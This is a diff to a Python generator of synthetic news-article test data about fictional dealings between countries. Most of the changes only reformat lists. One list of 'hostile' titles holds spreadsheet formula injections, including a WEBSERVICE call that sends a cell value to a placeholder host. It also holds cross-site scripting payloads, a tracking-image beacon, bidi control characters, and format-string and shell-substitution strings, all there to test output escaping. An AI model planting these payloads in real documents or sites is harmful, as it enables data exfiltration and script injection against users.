@@ -12,8 +12,21 @@ from pathlib import Path
 FIRST = ["RUS", "USA", "CHN", "IND", "BRA", "FRA", "DEU", "JPN", "EGY", "KEN"]
 WITH_ARTICLE = {"United States", "United Kingdom", "Netherlands", "Philippines", "United Arab Emirates", "Czech Republic"}
 OUTLETS = ["Harbour Times", "Northern Post", "The Ledger", "Evening Wire", None]
-THINGS = ["fish quotas", "the river dam", "a customs union", "rail freight", "copper ore", "border posts", "wheat exports",
-          "the shared lighthouse", "oil licences", "visa fees", "undersea cables", "steel pipes", "a gas terminal"]
+THINGS = [
+    "fish quotas",
+    "the river dam",
+    "a customs union",
+    "rail freight",
+    "copper ore",
+    "border posts",
+    "wheat exports",
+    "the shared lighthouse",
+    "oil licences",
+    "visa fees",
+    "undersea cables",
+    "steel pipes",
+    "a gas terminal",
+]
 PLACES = ["ministry", "port", "palace", "assembly", "academy", "customs house", "old town hall", "naval club"]
 PEOPLE = ["clerks", "envoys", "farmers", "pilots", "judges", "bakers", "sailors", "teachers", "miners", "printers"]
 ACTS = [
@@ -26,8 +39,10 @@ ACTS = [
     "{a} threatened {b} with new tariffs over {thing} while {people} waited at the {place}.",
     "{a} condemned the decision of {b} on {thing} and called the vote at the {place} a mistake.",
 ]
-TO_COME = ["{a} will hold talks with {b} on {day} {month} 2021 about {thing}, the {place} said.",
-           "{a} plans to sign a treaty with {b} on {day} {month} 2021 in the {place}, {people} were told."]
+TO_COME = [
+    "{a} will hold talks with {b} on {day} {month} 2021 about {thing}, the {place} said.",
+    "{a} plans to sign a treaty with {b} on {day} {month} 2021 in the {place}, {people} were told.",
+]
 NAMED = [
     "In {a} the {people} spoke of little else than {thing} during week {number}.",
     "Prices of {thing} rose again in {a}, where {number} {people} had asked for help.",
@@ -40,19 +55,54 @@ PADDING = [
 ]
 # Titles of an ill-meaning or broken page: formulas, markup, what ends a cell, a row or a line, what looks like a number.
 HOSTILE = [
-    "=2+3", '=HYPERLINK("http://x.invalid";"more")', '=WEBSERVICE("http://x.invalid/"&A1)', "+49 30 000 000", "-7+1",
-    "- Ministers meet", "@SUM(B1:B9)", "\t=2+3", "\r=2+3", "＝2+3", "'=2+3", "''quoted''", 'He said "yes", then "no"',
-    "one;two|three,four", "first\nsecond\r\nthird", "bell\u0007 and escape\u001b[31m", "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>", "![beacon](http://x.invalid/b.png)", "[here](javascript:alert(1))", "| a | b |\n|--|--|",
-    "# Heading\n\n1. item", "**bold** _slanted_ `code` ~~gone~~ $x^2$", "&amp; &lt;b&gt; &#60;", "http://x.invalid/ www.x.invalid",
-    "left\u202eright\u2066in\u2069", "next\u0085line\u2028separator\u2029end", "a backslash\\ and \\| a pipe", "==== wiki ====", "</title></style></svg><svg onload=alert(2)>",
-    "-->]]><!--", "Ünïcödé 漢字 🇺🇳", "a" * 300, "many " * 60, "{{country}} {{{raw}}} {{#section}}", "%s %n %1$s ${HOME} `id`",
+    "=2+3",
+    '=HYPERLINK("http://x.invalid";"more")',
+    '=WEBSERVICE("http://x.invalid/"&A1)',
+    "+49 30 000 000",
+    "-7+1",
+    "- Ministers meet",
+    "@SUM(B1:B9)",
+    "\t=2+3",
+    "\r=2+3",
+    "＝2+3",
+    "'=2+3",
+    "''quoted''",
+    'He said "yes", then "no"',
+    "one;two|three,four",
+    "first\nsecond\r\nthird",
+    "bell\u0007 and escape\u001b[31m",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "![beacon](http://x.invalid/b.png)",
+    "[here](javascript:alert(1))",
+    "| a | b |\n|--|--|",
+    "# Heading\n\n1. item",
+    "**bold** _slanted_ `code` ~~gone~~ $x^2$",
+    "&amp; &lt;b&gt; &#60;",
+    "http://x.invalid/ www.x.invalid",
+    "left\u202eright\u2066in\u2069",
+    "next\u0085line\u2028separator\u2029end",
+    "a backslash\\ and \\| a pipe",
+    "==== wiki ====",
+    "</title></style></svg><svg onload=alert(2)>",
+    "-->]]><!--",
+    "Ünïcödé 漢字 🇺🇳",
+    "a" * 300,
+    "many " * 60,
+    "{{country}} {{{raw}}} {{#section}}",
+    "%s %n %1$s ${HOME} `id`",
 ]
 # Titles that every spreadsheet takes for a number, a day or a truth in CSV, which has no other means than text; a typed
 # workbook keeps them.
 LIKE_VALUES = ["00123", "1e5", "2021-04", "1,234", "0.125", "1/2", "TRUE"]
-MONTHS = {"2021-01": "January", "2021-02": "February", "2021-03": "March", "2021-04": "April", "2021-05": "May",
-          "2021-06": "June"}
+MONTHS = {
+    "2021-01": "January",
+    "2021-02": "February",
+    "2021-03": "March",
+    "2021-04": "April",
+    "2021-05": "May",
+    "2021-06": "June",
+}
 
 
 @dataclass(frozen=True)
@@ -109,14 +159,17 @@ def _article(dice: random.Random, names: list[str], month: str, number: int) -> 
         sentences += [_act(dice, named, month) for _ in range(dice.choice([0, 1, 1, 2, 3]))]
     # One country deals three times as often as before.
     if month == "2021-04" and names[4] in named and dice.random() < 0.9:
-        sentences += [_sentence(dice, act, [names[4], other]) for act in dice.sample(ACTS, 2)
-                      for other in [dice.choice([name for name in names[:4] if name != names[4]])]]
+        sentences += [
+            _sentence(dice, act, [names[4], other])
+            for act in dice.sample(ACTS, 2)
+            for other in [dice.choice([name for name in names[:4] if name != names[4]])]
+        ]
     sentences += [_sentence(dice, dice.choice(PADDING), named) for _ in range(dice.randint(3, 14))]
     dice.shuffle(sentences)
     outlet = dice.choice(OUTLETS)
     return {
         "title": f"Note {number}: {dice.choice(THINGS)} and {dice.choice(PEOPLE)} of {named[0]}",
-        "text": "\n\n".join(" ".join(sentences[at:at + 3]) for at in range(0, len(sentences), 3)),
+        "text": "\n\n".join(" ".join(sentences[at : at + 3]) for at in range(0, len(sentences), 3)),
         "date": date(2021, int(month[5:]), dice.randint(1, 28)).isoformat(),
         "source": outlet,
         "url": f"https://news.example/{month}/{number}" if outlet else None,
@@ -142,6 +195,14 @@ def _act(dice: random.Random, named: list[str], month: str) -> str:
 
 def _sentence(dice: random.Random, template: str, named: list[str], month: str = "") -> str:
     a, b, *_ = [f"the {name}" if name in WITH_ARTICLE else name for name in [*named, named[0]]]
-    words = template.format(a=a, b=b, thing=dice.choice(THINGS), place=dice.choice(PLACES), people=dice.choice(PEOPLE),
-                            number=dice.randint(3, 99_000), day=dice.randint(1, 28), month=month)
+    words = template.format(
+        a=a,
+        b=b,
+        thing=dice.choice(THINGS),
+        place=dice.choice(PLACES),
+        people=dice.choice(PEOPLE),
+        number=dice.randint(3, 99_000),
+        day=dice.randint(1, 28),
+        month=month,
+    )
     return words[0].upper() + words[1:]
